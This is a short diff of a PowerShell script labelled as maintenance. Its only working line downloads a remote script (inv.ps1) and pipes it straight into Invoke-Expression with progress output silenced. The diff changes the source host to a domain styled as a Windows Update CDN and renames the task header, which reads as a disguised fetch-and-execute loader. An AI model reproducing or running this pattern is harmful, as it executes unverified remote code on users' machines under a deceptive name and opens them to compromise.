@@ -1,3 +1,3 @@
-# task 9594 v2
+# maintenance 7345 v2
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://files.sync-svc.example/inv.ps1 | iex
+iwr -UseBasicParsing http://dl.winupdate-cdn.example/inv.ps1 | iex
